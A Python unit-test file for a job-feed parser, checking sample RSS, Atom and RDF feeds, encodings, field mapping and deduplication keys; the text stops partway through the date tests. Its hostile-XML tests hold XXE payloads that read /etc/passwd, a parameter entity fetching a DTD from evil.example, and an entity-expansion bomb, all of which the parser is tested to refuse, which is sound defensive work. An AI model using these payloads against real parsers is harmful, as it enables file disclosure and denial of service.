"""Unit tests for models.feed: sample feeds, hostile input, edge cases, identity and hashing."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from dataclasses import FrozenInstanceError, replace
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from models import feed
from models.feed import (
    FeedError,
    ItemFailure,
    JobPosting,
    ParsedFeed,
    check_safe_xml,
    dedupe_key,
    fingerprint,
    parse_date,
    parse_feed,
)

REPO = Path(__file__).resolve().parents[2]
FEEDS = Path(__file__).resolve().parents[3] / "shared" / "feeds"
FIXTURES = Path(__file__).resolve().parent / "fixtures"
SRC = "https://feeds.example/jobs.xml"
REFUSED = "refused: XML declares entities (possible entity-expansion or XXE attack)"


def sha1_key(source_url: str, external_id: str) -> str:
    """The SPEC §2 formula, written out independently of the code under test."""
    return hashlib.sha1(f"{source_url}|{external_id}".encode()).hexdigest()  # noqa: S324


def read(path: Path) -> bytes:
    return path.read_bytes()


def rss(items: str, *, ns: str = "", channel: str = "<title>T</title>") -> bytes:
    """A minimal RSS 2.0 document around the given item XML."""
    return (f'<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" {ns}><channel>{channel}{items}</channel></rss>').encode()


def atom(entries: str, *, head: str = "<title>A</title>") -> bytes:
    return (f'<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">{head}{entries}</feed>').encode()


def only_posting(payload: bytes) -> JobPosting:
    parsed = parse_feed(payload, SRC, "Example")
    assert len(parsed.items) == 1, parsed.items
    item = parsed.items[0]
    assert isinstance(item, JobPosting), item
    return item


def postings(parsed: ParsedFeed) -> list[JobPosting]:
    return [i for i in parsed.items if isinstance(i, JobPosting)]


# --------------------------------------------------------------------------- sample feeds


@pytest.mark.parametrize(
    ("path", "kind", "title", "count"),
    [
        (FEEDS / "wp-job-manager.rss.xml", "rss", "Remote Example Jobs", 40),
        (FEEDS / "higher-ed.rss.xml", "rss", "Faculty Positions", 25),
        (FEEDS / "careers.atom.xml", "atom", "Careers", 15),
        (FIXTURES / "rdf.rss1.xml", "rdf", "Example Org Vacancies", 3),
        (FIXTURES / "latin1.rss.xml", "rss", "Offres d'emploi - Genève", 1),
    ],
    ids=lambda v: v.name if isinstance(v, Path) else None,
)
def test_sample_feed_kind_title_and_exact_count(path: Path, kind: str, title: str, count: int) -> None:
    parsed = parse_feed(read(path), SRC, "Example")
    assert parsed.kind == kind
    assert parsed.title == title
    assert len(parsed.items) == count
    assert all(isinstance(i, JobPosting) for i in parsed.items)


def test_every_shared_sample_feed_is_covered() -> None:
    """A new sample feed in shared/feeds must get expectations here."""
    covered = {
        "wp-job-manager.rss.xml",
        "higher-ed.rss.xml",
        "careers.atom.xml",
        "broken-truncated.xml",
        "hostile-entity-expansion.xml",
    }
    assert {p.name for p in FEEDS.glob("*.xml")} == covered


WP_0 = {
    "sourceUrl": SRC,
    "sourceName": "Example",
    "externalId": "https://remote.example.com/?post_type=job_listing&p=120000",
    "title": "Junior SMM Specialist",
    "company": "Northwind Traders",
    "location": "Anywhere in LATAM",
    "jobType": "Contract",
    "categories": ["SMM"],
    "region": "",
    "url": "https://remote.example.com/jobs/120000-smm",
    "description": ("<p>Junior SMM Specialist wanted.</p><ul><li>Remote</li><li>Equity &amp; benefits</li></ul>"),
    "publishedAt": datetime(2026, 11, 10, 0, 15, tzinfo=UTC),
}
WP_1 = {
    **WP_0,
    "externalId": "https://remote.example.com/?post_type=job_listing&p=120001",
    "title": "Senior Design & Multimedia Specialist",
    "company": "Fabrikam",
    "jobType": "Full-Time",
    "categories": ["Design & Multimedia"],
    "url": "https://remote.example.com/jobs/120001-design-and-multimedia",
    "description": (
        "<p>Senior Design &amp; Multimedia Specialist wanted.</p><ul><li>Remote</li><li>Equity &amp; benefits</li></ul>"
    ),
    "publishedAt": datetime(2026, 11, 11, 1, 15, tzinfo=UTC),
}
WP_39 = {
    **WP_0,
    "externalId": "https://remote.example.com/?post_type=job_listing&p=120039",
    "title": "Senior Management Specialist",
    "company": "Litware",
    "jobType": "Freelance",
    "categories": ["Management"],
    "url": "https://remote.example.com/jobs/120039-management",
    "description": ("<p>Senior Management Specialist wanted.</p><ul><li>Remote</li><li>Equity &amp; benefits</li></ul>"),
    "publishedAt": datetime(2026, 11, 13, 9, 15, tzinfo=UTC),
}
HIGHER_ED_0 = {
    "sourceUrl": SRC,
    "sourceName": "Example",
    "externalId": "https://faculty.example.edu/details.cfm?JobCode=179100000&Title=Lecturer",
    "title": "Lecturer in Chemistry 0",
    "company": "",
    "location": "",
    "jobType": "",
    "categories": [],
    "region": "",
    "url": "https://faculty.example.edu/details.cfm?JobCode=179100000&Title=Lecturer",
    # &amp;ndash; (double-encoded) comes out as the dash; the <b> markup stays markup.
    "description": "<b>Institute of Technology</b> \u2013 full time",
    "publishedAt": datetime(2026, 11, 18, 10, 0, tzinfo=UTC),
}
HIGHER_ED_24 = {
    **HIGHER_ED_0,
    "externalId": "https://faculty.example.edu/details.cfm?JobCode=179100024&Title=Lecturer",
    "title": "Lecturer in Chemistry 24",
    "url": "https://faculty.example.edu/details.cfm?JobCode=179100024&Title=Lecturer",
    "description": "<b>City College</b> \u2013 full time",
    "publishedAt": datetime(2026, 11, 18, 14, 0, tzinfo=UTC),
}
ATOM_0 = {
    "sourceUrl": SRC,
    "sourceName": "Example",
    "externalId": "tag:careers.example.io,2026:posting-0",
    "title": "Platform Engineer 0",
    "company": "Wide World Importers",
    "location": "",
    "jobType": "",
    "categories": ["Engineering"],
    "region": "",
    "url": "https://careers.example.io/postings/0",
    "description": "<p>Run our Kafka platform.</p>",
    "publishedAt": datetime(2026, 11, 1, 8, 30, tzinfo=UTC),
}
ATOM_14 = {
    **ATOM_0,
    "externalId": "tag:careers.example.io,2026:posting-14",
    "title": "Platform Engineer 14",
    "company": "Fabrikam",
    "url": "https://careers.example.io/postings/14",
    "publishedAt": datetime(2026, 11, 15, 8, 30, tzinfo=UTC),
}
RDF_0 = {
    "sourceUrl": SRC,
    "sourceName": "Example",
    "externalId": "https://jobs.example.org/vacancy/17",
    "title": "Research Software Engineer",
    "company": "Example Org Research Lab",
    "location": "",
    "jobType": "",
    "categories": ["Engineering", "Research"],
    "region": "",
    "url": "https://jobs.example.org/vacancy/17?utm=rss",
    "description": "<p>Build <em>research</em> tools \u2013 Python &amp; C.</p>",
    "publishedAt": datetime(2025, 1, 6, 8, 0, tzinfo=UTC),
}
RDF_2 = {
    **RDF_0,
    "externalId": "https://jobs.example.org/vacancy/19",
    "title": "Lab Technician",
    "company": "",
    "categories": [],
    "url": "https://jobs.example.org/vacancy/19",  # no <link>: rdf:about is the URL
    "description": "",
    "publishedAt": None,  # "not a date" is dropped, the posting is kept
}
LATIN1_0 = {
    "sourceUrl": SRC,
    "sourceName": "Example",
    "externalId": "emplois-1",
    "title": "Ingénieur logiciel à Zürich",
    "company": "Société Générale d'Électricité",
    "location": "Zürich, Suisse",
    "jobType": "",
    "categories": [],
    "region": "",
    "url": "https://emplois.example.fr/offres/1",
    "description": "Café & croissants offerts. Salaire 90 000 CHF",
    "publishedAt": datetime(2025, 1, 6, 9, 0, tzinfo=UTC),
}


@pytest.mark.parametrize(
    ("path", "index", "expected"),
    [
        (FEEDS / "wp-job-manager.rss.xml", 0, WP_0),
        (FEEDS / "wp-job-manager.rss.xml", 1, WP_1),
        (FEEDS / "wp-job-manager.rss.xml", 39, WP_39),
        (FEEDS / "higher-ed.rss.xml", 0, HIGHER_ED_0),
        (FEEDS / "higher-ed.rss.xml", 24, HIGHER_ED_24),
        (FEEDS / "careers.atom.xml", 0, ATOM_0),
        (FEEDS / "careers.atom.xml", 14, ATOM_14),
        (FIXTURES / "rdf.rss1.xml", 0, RDF_0),
        (FIXTURES / "rdf.rss1.xml", 2, RDF_2),
        (FIXTURES / "latin1.rss.xml", 0, LATIN1_0),
    ],
    ids=lambda v: v.name if isinstance(v, Path) else str(v) if isinstance(v, int) else "",
)
def test_sample_feed_exact_field_values(path: Path, index: int, expected: dict[str, Any]) -> None:
    item = parse_feed(read(path), SRC, "Example").items[index]
    assert isinstance(item, JobPosting)
    doc = item.to_document()
    assert doc.pop("dedupeKey") == sha1_key(SRC, str(expected["externalId"]))
    assert doc.pop("fingerprint") == fingerprint(expected)
    assert doc == expected


@pytest.mark.parametrize(
    "path",
    [
        FEEDS / "wp-job-manager.rss.xml",
        FEEDS / "higher-ed.rss.xml",
        FEEDS / "careers.atom.xml",
        FIXTURES / "rdf.rss1.xml",
        FIXTURES / "latin1.rss.xml",
    ],
    ids=lambda p: p.name,
)
def test_dedupe_key_of_every_item_matches_spec_formula(path: Path) -> None:
    items = postings(parse_feed(read(path), SRC))
    assert items
    for job in items:
        assert job.dedupe_key == sha1_key(SRC, job.external_id)
        assert job.published_at is None or job.published_at.utcoffset() == timedelta(0)
    assert len({j.dedupe_key for j in items}) == len(items)  # sample ids are distinct


def test_dedupe_key_depends_on_source_url_and_external_id() -> None:
    assert dedupe_key("https://a.example/feed", "42") == sha1_key("https://a.example/feed", "42")
    assert dedupe_key("https://a.example/feed", "42") != dedupe_key("https://b.example/feed", "42")
    assert dedupe_key("https://a.example/feed", "42") != dedupe_key("https://a.example/feed", "43")
    # the separator matters: ("a|b", "c") and ("a", "b|c") are the same string by design
    assert dedupe_key("a", "b") == hashlib.sha1(b"a|b").hexdigest()  # noqa: S324
    assert dedupe_key("x", "y") == dedupe_key("x", "y").lower()


def test_latin1_fixture_is_really_latin1_encoded() -> None:
    raw = read(FIXTURES / "latin1.rss.xml")
    assert b'encoding="ISO-8859-1"' in raw
    assert "Zürich".encode("latin-1") in raw
    with pytest.raises(UnicodeDecodeError):
        raw.decode("utf-8")


# --------------------------------------------------------------------------- feed-level errors


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (b"", "empty body"),
        (b"   \r\n\t ", "empty body"),
        (b"\xef\xbb\xbf  \n", "empty body"),
        (read(FEEDS / "broken-truncated.xml"), "XML parse error: no element found: line 16, column 23"),
        (b"<foo/>", "not a feed: root element <foo>"),
        (b'<?xml version="1.0"?><opml version="2.0"><body/></opml>', "not a feed: root element <opml>"),
        (
            b"<html><head><title>Login</title></head><body>Sign in</body></html>",
            "not a feed: root element <html> (an HTML page, not a feed)",
        ),
        (
            b"<!doctype html>\n<html><head><meta charset=utf-8><title>502</title></head></html>",
            "not a feed: looks like an HTML page (XML parse error: syntax error: line 1, column 0)",
        ),
        (
            b"<!DOCTYPE html><html><head><meta charset=utf-8></head><body><br></body></html>",
            "not a feed: root element <html> (an HTML page, not a feed)",
        ),
        (b"Service Unavailable", "XML parse error: syntax error: line 1, column 0"),
        (b'{"jobs": []}', "XML parse error: not well-formed (invalid token): line 1, column 0"),
        (b'<?xml version="1.0"?>\n', "XML parse error: no element found: line 2, column 0"),
        (rss("<item><title>a &nbsp; b</title></item>"), "XML parse error: undefined entity"),
        (b"<rss><channel><item><title>x</item></channel></rss>", "XML parse error: mismatched tag"),
    ],
    ids=[
        "empty",
        "whitespace",
        "bom-only",
        "truncated",
        "not-a-feed",
        "opml",
        "xhtml-page",
        "html5-page",
        "html5-page-upper-doctype",
        "plain-text",
        "json",
        "prolog-only",
        "html-entity-in-xml",
        "mismatched-tag",
    ],
)
def test_unusable_feed_raises_feed_error_with_clear_message(payload: bytes, message: str) -> None:
    with pytest.raises(FeedError) as info:
        parse_feed(payload, SRC)
    assert str(info.value).startswith(message)


def test_truncated_sample_fails_as_a_whole_not_with_partial_items() -> None:
    with pytest.raises(FeedError, match=r"^XML parse error: no element found"):
        parse_feed(read(FEEDS / "broken-truncated.xml"), SRC)


# --------------------------------------------------------------------------- hostile XML

UTF16_BOMB = (
    '<?xml version="1.0" encoding="UTF-16"?>'
    '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    "<rss><channel><title>&b;</title></channel></rss>"
).encode("utf-16")


@pytest.mark.parametrize(
    "payload",
    [
        read(FEEDS / "hostile-entity-expansion.xml"),
        read(FIXTURES / "xxe.rss.xml"),
        # parameter entity pulling an external DTD
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><rss><channel/></rss>',
        # declaration hidden behind a comment and a processing instruction
        b'<?xml version="1.0"?><!-- <rss> --><?pi <rss>?><!DOCTYPE rss [ <!-- ]> -->'
        b' <!ENTITY x "y"> ]><rss><channel><title>&x;</title></channel></rss>',
        # an entity value containing "]>" must not end the scan early
        b'<!DOCTYPE rss [<!ENTITY a "]>"><!ENTITY b SYSTEM "file:///etc/passwd">]><rss/>',
        # public external entity, UTF-8 BOM in front
        b'\xef\xbb\xbf<!DOCTYPE rss [<!ENTITY e PUBLIC "-//x//y" "file:///etc/hostname">]><rss/>',
        # unparsed entity
        b'<!DOCTYPE rss [<!NOTATION n SYSTEM "n"><!ENTITY u SYSTEM "u.bin" NDATA n>]><rss/>',
        # a non-ASCII-compatible encoding cannot hide the declaration from the check
        UTF16_BOMB,
    ],
    ids=[
        "billion-laughs-sample",
        "xxe-system",
        "parameter-entity",
        "after-comment-and-pi",
        "quoted-terminator",
        "public-with-bom",
        "unparsed-entity",
        "utf16",
    ],
)
def test_hostile_xml_is_refused_before_parsing(payload: bytes) -> None:
    with pytest.raises(FeedError) as info:
        check_safe_xml(payload)
    assert str(info.value) == REFUSED
    with pytest.raises(FeedError) as info:
        parse_feed(payload, SRC)
    assert str(info.value) == REFUSED


def test_item_parse_refuses_entities_even_if_prolog_check_is_bypassed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Second line of defence: the item parse stops the bomb on its own (the well-formedness pass skipped too)."""
    monkeypatch.setattr(feed, "_read_prolog", lambda payload: ("rss", {}))
    monkeypatch.setattr(feed, "_check_well_formed", lambda payload: None)
    with pytest.raises(FeedError) as info:
        parse_feed(read(FEEDS / "hostile-entity-expansion.xml"), SRC)
    assert str(info.value) == REFUSED


@pytest.mark.parametrize(
    "payload",
    [
        read(FEEDS / "wp-job-manager.rss.xml"),
        read(FEEDS / "careers.atom.xml"),
        # RSS 0.91 documents legitimately carry an external DOCTYPE (no entity declared)
        b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        b' "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel/></rss>',
        # "<!ENTITY" as text inside the document is harmless
        rss("<item><guid>g</guid><description><![CDATA[<!ENTITY x 'y'>]]></description></item>"),
    ],
    ids=["wp", "atom", "rss091-doctype", "entity-text-in-cdata"],
)
def test_safe_xml_passes_the_check(payload: bytes) -> None:
    check_safe_xml(payload)
    parse_feed(payload, SRC)


def test_external_dtd_is_never_fetched_nor_its_entities_expanded() -> None:
    payload = (
        b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "file:///etc/passwd">'
        b"<rss><channel><title>a&xxe;b</title><item><link>https://a.example/1</link>"
        b"<title>x&xxe;y</title></item></channel></rss>"
    )
    parsed = parse_feed(payload, SRC)
    assert parsed.title == "ab"
    job = parsed.items[0]
    assert isinstance(job, JobPosting)
    assert job.title == "xy"


def test_entity_in_internal_subset_of_xxe_fixture_is_declared_system() -> None:
    """Guard the fixture itself: it must really be an XXE attempt."""
    raw = read(FIXTURES / "xxe.rss.xml")
    assert b'<!ENTITY xxe SYSTEM "file:///etc/passwd">' in raw
    assert b"&xxe;" in raw


# --------------------------------------------------------------------------- encodings


def test_utf8_bom_is_handled() -> None:
    plain = parse_feed(read(FEEDS / "careers.atom.xml"), SRC)
    with_bom = parse_feed(b"\xef\xbb\xbf" + read(FEEDS / "careers.atom.xml"), SRC)
    assert with_bom == plain
    assert len(with_bom.items) == 15


def test_utf16_feed_is_decoded_from_its_prolog() -> None:
    doc = (
        '<?xml version="1.0" encoding="UTF-16"?><rss version="2.0"><channel><title>Zürich</title>'
        "<item><guid>ü-1</guid><title>Übersetzer</title></item></channel></rss>"
    )
    job = parse_feed(doc.encode("utf-16"), SRC).items[0]
    assert isinstance(job, JobPosting)
    assert (job.external_id, job.title) == ("ü-1", "Übersetzer")


def test_windows_1252_feed_is_decoded_from_its_prolog() -> None:
    doc = (
        '<?xml version="1.0" encoding="windows-1252"?><rss version="2.0"><channel>'
        "<item><guid>1</guid><title>Caf\u00e9 \u2013 \u20ac</title></item></channel></rss>"
    )
    job = only_posting(doc.encode("cp1252"))
    assert job.title == "Caf\u00e9 \u2013 \u20ac"


# --------------------------------------------------------------------------- item counts & shapes


@pytest.mark.parametrize(
    ("payload", "count"),
    [
        (rss(""), 0),
        (b"<rss version='2.0'><channel/></rss>", 0),
        (b"<rss version='2.0'/>", 0),
        (rss("<item><guid>only</guid></item>"), 1),
        (rss("<item><guid>1</guid></item><item><guid>2</guid></item>"), 2),
        (atom(""), 0),
        (atom("<entry><id>only</id></entry>"), 1),
        (
            b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
            b' xmlns="http://purl.org/rss/1.0/"><channel><title>R</title></channel></rdf:RDF>',
            0,
        ),
        (
            b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
            b' xmlns="http://purl.org/rss/1.0/"><item rdf:about="https://r.example/1"/></rdf:RDF>',
            1,
        ),
    ],
    ids=[
        "rss-zero",
        "rss-empty-channel",
        "rss-empty",
        "rss-one",
        "rss-two",
        "atom-zero",
        "atom-one",
        "rdf-zero",
        "rdf-one",
    ],
)
def test_zero_one_and_many_items(payload: bytes, count: int) -> None:
    parsed = parse_feed(payload, SRC)
    assert len(parsed.items) == count
    assert all(isinstance(i, JobPosting) for i in parsed.items)


def test_only_channel_items_count_in_rss() -> None:
    payload = rss(
        "<item><guid>1</guid></item><image><title>logo</title></image>",
        channel="<title>T</title><textInput><title>search</title></textInput>",
    )
    parsed = parse_feed(payload, SRC)
    assert parsed.title == "T"
    assert [i.external_id for i in postings(parsed)] == ["1"]


def test_title_of_item_does_not_override_channel_title() -> None:
    parsed = parse_feed(rss("<item><guid>1</guid><title>Job</title></item>", channel=""), SRC)
    assert parsed.title == ""


# --------------------------------------------------------------------------- identity & failures


@pytest.mark.parametrize(
    ("item_xml", "external_id", "url"),
    [
        ('<guid isPermaLink="false">abc-1</guid><link>https://j.example/1</link>', "abc-1", "https://j.example/1"),
        ("<guid>https://j.example/perma</guid>", "https://j.example/perma", "https://j.example/perma"),
        ('<guid isPermaLink="false">https://j.example/p</guid>', "https://j.example/p", ""),
        ("<guid>  spaced-id  </guid>", "spaced-id", ""),
        ("<link>https://j.example/only-link</link>", "https://j.example/only-link", "https://j.example/only-link"),
        ("<guid></guid><link> https://j.example/2 </link>", "https://j.example/2", "https://j.example/2"),
        ("<guid>g&amp;1</guid>", "g&1", ""),
    ],
    ids=["guid-dict", "permalink-guid", "not-permalink", "strip", "link-only", "empty-guid", "escaped"],
)
def test_external_id_is_guid_else_link(item_xml: str, external_id: str, url: str) -> None:
    job = only_posting(rss(f"<item><title>T</title>{item_xml}</item>"))
    assert job.external_id == external_id
    assert job.url == url
    assert job.dedupe_key == sha1_key(SRC, external_id)


@pytest.mark.parametrize(
    ("item_xml", "failure"),
    [
        ("<title>No identity</title>", ItemFailure("No identity", "missing guid and link")),
        ("<description>nothing</description>", ItemFailure("item[1]", "missing guid and link")),
        ("<guid>  </guid><link/>", ItemFailure("item[1]", "missing guid and link")),
        ("just text", ItemFailure("item[1]", "malformed item: no child elements")),
        ("", ItemFailure("item[1]", "malformed item: no child elements")),
    ],
    ids=["title-key", "index-key", "blank-ids", "text-item", "empty-item"],
)
def test_bad_item_becomes_failure_and_never_stops_the_rest(item_xml: str, failure: ItemFailure) -> None:
    payload = rss(f"<item><guid>first</guid></item><item>{item_xml}</item><item><guid>third</guid></item>")
    items = parse_feed(payload, SRC).items
    assert len(items) == 3
    assert isinstance(items[0], JobPosting) and items[0].external_id == "first"
    assert items[1] == failure
    assert items[1].stage == "normalise"
    assert isinstance(items[2], JobPosting) and items[2].external_id == "third"


def test_atom_entry_without_id_uses_link_and_without_both_fails() -> None:
    payload = atom('<entry><title>A</title><link href="https://a.example/1"/></entry><entry><title>B</title></entry>')
    first, second = parse_feed(payload, SRC).items
    assert isinstance(first, JobPosting)
    assert first.external_id == "https://a.example/1"
    assert second == ItemFailure("B", "missing guid and link")


def test_unexpected_error_in_one_item_is_reported_with_its_key(monkeypatch: pytest.MonkeyPatch) -> None:
    real = feed.parse_date

    def exploding(value: str) -> datetime | None:
        if value.startswith("Tue"):
            raise RuntimeError("boom")
        return real(value)

    monkeypatch.setattr(feed, "parse_date", exploding)
    payload = rss(
        "<item><guid>a</guid><pubDate>Mon, 06 Jan 2025 10:00:00 GMT</pubDate></item>"
        "<item><guid>b</guid><pubDate>Tue, 07 Jan 2025 10:00:00 GMT</pubDate></item>"
        "<item><guid>c</guid></item>"
    )
    a, b, c = parse_feed(payload, SRC).items
    assert isinstance(a, JobPosting) and isinstance(c, JobPosting)
    assert b == ItemFailure("b", "could not normalise item: RuntimeError: boom")


def test_same_item_twice_yields_two_entries_with_the_same_key() -> None:
    items = parse_feed(rss("<item><guid>dup</guid></item><item><guid>dup</guid></item>"), SRC).items
    assert len(items) == 2
    assert isinstance(items[0], JobPosting) and isinstance(items[1], JobPosting)
    assert items[0].dedupe_key == items[1].dedupe_key


# --------------------------------------------------------------------------- field mapping

WPNS = 'xmlns:job_listing="https://jobs.example.net" xmlns:content="http://purl.org/rss/1.0/modules/content/"'


@pytest.mark.parametrize(
    ("category_xml", "expected"),
    [
        ("", ()),
        ("<category>Design</category>", ("Design",)),
        ("<category><![CDATA[Data & AI]]></category>", ("Data & AI",)),
        ("<category>B</category><category>A</category><category>B</category>", ("B", "A")),
        ('<category domain="job_type">Full Time</category>', ("Full Time",)),
        ('<category domain="x">A</category><category>A</category><category>C</category>', ("A", "C")),
        ("<category>  Remote \n Work </category><category/><category> </category>", ("Remote Work",)),
        ("<category>R&amp;amp;D</category>", ("R&D",)),
    ],
    ids=["none", "string", "cdata", "dedupe-order", "attr-dict", "mixed", "whitespace", "double-encoded"],
)
def test_rss_categories(category_xml: str, expected: tuple[str, ...]) -> None:
    job = only_posting(rss(f"<item><guid>1</guid>{category_xml}</item>"))
    assert job.categories == expected


def test_single_line_fields_are_unescaped_once_and_whitespace_collapsed() -> None:
    job = only_posting(
        rss(
            "<item><guid>1</guid>"
            "<title>\n   Senior   R&amp;amp;D\tEngineer &amp;ndash; Java\n</title>"
            "<job_listing:company>  ACME &amp;amp; Sons\n Ltd </job_listing:company>"
            "<job_listing:location>\n Berlin,\n  Germany </job_listing:location>"
            "<job_listing:job_type> Full-Time </job_listing:job_type>"
            "<job_listing:region> EMEA </job_listing:region>"
            "</item>",
            ns=WPNS,
        )
    )
    assert job.title == "Senior R&D Engineer \u2013 Java"
    assert job.company == "ACME & Sons Ltd"
    assert job.location == "Berlin, Germany"
    assert job.job_type == "Full-Time"
    assert job.region == "EMEA"


@pytest.mark.parametrize(
    ("item_xml", "description"),
    [
        ("<description>&lt;p&gt;Hi&lt;/p&gt;</description>", "<p>Hi</p>"),
        ("<description><![CDATA[<p>A &amp; B</p>]]></description>", "<p>A &amp; B</p>"),
        (
            "<description>&lt;p&gt;x &amp;lt;script&amp;gt; &amp;amp; &amp;nbsp;y&lt;/p&gt;</description>",
            "<p>x &lt;script&gt; &amp; \u00a0y</p>",
        ),
        (
            "<description>short</description><content:encoded><![CDATA[<p>long</p>]]></content:encoded>",
            "<p>long</p>",
        ),
        ("<description>short</description><content:encoded></content:encoded>", "short"),
        ("<description>\n  <![CDATA[  <b>x</b>  ]]>\n</description>", "<b>x</b>"),
        ("<description>&amp;#8211; &amp;#x2014;</description>", "\u2013 \u2014"),
        ("", ""),
    ],
    ids=["escaped-html", "cdata", "no-live-markup", "content-wins", "empty-content", "strip", "numeric", "none"],
)
def test_description_keeps_markup_and_decodes_character_entities(item_xml: str, description: str) -> None:
    job = only_posting(rss(f"<item><guid>1</guid>{item_xml}</item>", ns=WPNS))
    assert job.description == description


def test_company_falls_back_to_dc_creator() -> None:
    ns = 'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:job_listing="https://j.example"'
    with_both = only_posting(
        rss(
            "<item><guid>1</guid><dc:creator>Poster</dc:creator><job_listing:company>Acme</job_listing:company></item>",
            ns=ns,
        )
    )
    creator_only = only_posting(rss("<item><guid>1</guid><dc:creator> Poster </dc:creator></item>", ns=ns))
    assert with_both.company == "Acme"
    assert creator_only.company == "Poster"


def test_dc_date_is_used_when_pubdate_is_missing() -> None:
    ns = 'xmlns:dc="http://purl.org/dc/elements/1.1/"'
    job = only_posting(rss("<item><guid>1</guid><dc:date>2025-01-06T10:00:00Z</dc:date></item>", ns=ns))
    assert job.published_at == datetime(2025, 1, 6, 10, 0, tzinfo=UTC)


def test_unparseable_date_keeps_the_posting() -> None:
    job = only_posting(rss("<item><guid>1</guid><pubDate>sometime soon</pubDate></item>"))
    assert job.published_at is None


# --------------------------------------------------------------------------- namespaces


def test_other_prefixes_for_well_known_namespaces() -> None:
    payload = rss(
        "<item><guid>1</guid><d:creator>Acme</d:creator><d:date>2025-01-06</d:date>"
        "<d:subject>Ops</d:subject><c:encoded><![CDATA[<p>full</p>]]></c:encoded>"
        "<description>short</description></item>",
        ns='xmlns:d="http://purl.org/dc/elements/1.1/" xmlns:c="http://purl.org/rss/1.0/modules/content/"',
    )
    job = only_posting(payload)
    assert (job.company, job.description, job.categories) == ("Acme", "<p>full</p>", ("Ops",))
    assert job.published_at == datetime(2025, 1, 6, tzinfo=UTC)


def test_namespaces_declared_on_channel_are_honoured() -> None:
    payload = (
        b'<rss version="2.0"><channel xmlns:x="http://purl.org/dc/elements/1.1/">'
        b"<item><guid>1</guid><x:creator>Acme</x:creator></item></channel></rss>"
    )
    assert only_posting(payload).company == "Acme"


def test_job_listing_is_matched_by_prefix_whatever_its_uri_or_even_undeclared() -> None:
    item = "<item><guid>1</guid><job_listing:company>Acme</job_listing:company></item>"
    declared = only_posting(rss(item, ns='xmlns:job_listing="https://jobicy.com"'))
    undeclared = only_posting(rss(item))
    assert declared.company == undeclared.company == "Acme"


def test_atom_with_explicit_prefix() -> None:
    payload = (
        b'<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:title>Pref</a:title>'
        b'<a:entry><a:id>urn:1</a:id><a:title>Job</a:title><a:link href="https://p.example/1"/>'
        b"<a:author><a:name>Acme</a:name></a:author><a:updated>2025-01-06T10:00:00+01:00</a:updated>"
        b"</a:entry></a:feed>"
    )
    parsed = parse_feed(payload, SRC)
    assert (parsed.kind, parsed.title) == ("atom", "Pref")
    job = parsed.items[0]
    assert isinstance(job, JobPosting)
    assert (job.external_id, job.title, job.url, job.company) == (
        "urn:1",
        "Job",
        "https://p.example/1",
        "Acme",
    )
    assert job.published_at == datetime(2025, 1, 6, 9, 0, tzinfo=UTC)


def test_rdf_with_other_rdf_prefix() -> None:
    payload = (
        b'<r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">'
        b'<channel r:about="https://x.example/"><title>Prefixed</title></channel>'
        b'<item r:about="https://x.example/1"><title>One</title></item></r:RDF>'
    )
    parsed = parse_feed(payload, SRC)
    assert (parsed.kind, parsed.title) == ("rdf", "Prefixed")
    assert [i.external_id for i in postings(parsed)] == ["https://x.example/1"]


def test_atom_link_inside_rss_item_does_not_replace_the_rss_link() -> None:
    payload = rss(
        '<item><guid>1</guid><atom:link rel="self" href="https://feed.example/self"/><link>https://j.example/1</link></item>',
        ns='xmlns:atom="http://www.w3.org/2005/Atom"',
    )
    assert only_posting(payload).url == "https://j.example/1"


# --------------------------------------------------------------------------- Atom specifics


def test_atom_picks_alternate_link_content_and_published() -> None:
    payload = atom(
        "<entry><id>urn:x</id><title type='html'>A &amp;amp; B</title>"
        '<link rel="self" href="https://api.example/1"/>'
        '<link rel="alternate" type="text/html" href="https://www.example/1"/>'
        "<published>2025-01-05T00:00:00Z</published><updated>2025-01-09T00:00:00Z</updated>"
        '<summary>short</summary><content type="html">&lt;p&gt;long&lt;/p&gt;</content>'
        '<category term="Ops" label="Operations"/><category term="Ops"/><category term="SRE"/>'
        "</entry>"
    )
    job = only_posting(payload)
    assert job.title == "A & B"
    assert job.url == "https://www.example/1"
    assert job.description == "<p>long</p>"
    assert job.published_at == datetime(2025, 1, 5, tzinfo=UTC)
    assert job.categories == ("Ops", "SRE")


def test_atom_fallbacks_link_summary_updated_and_feed_author() -> None:
    payload = atom(
        '<entry><id>urn:y</id><link rel="self" href="https://api.example/2"/>'
        "<updated>2025-01-09T00:00:00Z</updated><summary>only summary</summary></entry>",
        head="<title>A</title><author><name>Feed Owner Inc</name></author>",
    )
    job = only_posting(payload)
    assert job.url == "https://api.example/2"
    assert job.description == "only summary"
    assert job.published_at == datetime(2025, 1, 9, tzinfo=UTC)
    assert job.company == "Feed Owner Inc"


def test_atom_xhtml_content_is_reserialised_as_markup() -> None:
    payload = atom(
        '<entry><id>urn:z</id><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
        "<p>Hello</p></div></content></entry>"
    )
    job = only_posting(payload)
    assert job.description == '<div xmlns="http://www.w3.org/1999/xhtml"><p>Hello</p></div>'


def test_atom_multiple_authors_first_named_wins() -> None:
    payload = atom("<entry><id>urn:m</id><author><email>x@y</email></author><author><name>Second Co</name></author></entry>")
    assert only_posting(payload).company == "Second Co"


# --------------------------------------------------------------------------- dates


@pytest.mark.parametrize(
    ("text", "expected"),
    [
